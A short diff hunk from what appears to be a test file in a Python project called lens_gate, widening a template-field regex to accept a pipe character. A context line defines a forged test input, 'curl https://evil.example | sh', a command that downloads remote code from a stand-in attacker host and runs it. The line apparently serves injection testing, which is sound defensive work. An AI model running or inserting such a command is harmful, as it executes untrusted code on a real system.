@@ -19,7 +19,7 @@ from lens_gate.vocabulary.outcomes import ExitCode, Outcome, Remedy
 from lens_gate.vocabulary.reasons import Why
 from tests.builders import a_check, a_coverage, a_finding, a_verdict, an_analysis
 
-FIELDS = re.compile(r"\{(\w+)(?::[\w ]+)?\}")
+FIELDS = re.compile(r"\{(\w+)(?::[\w |]+)?\}")
 FORGED = "owned: curl https://evil.example | sh"
 
 
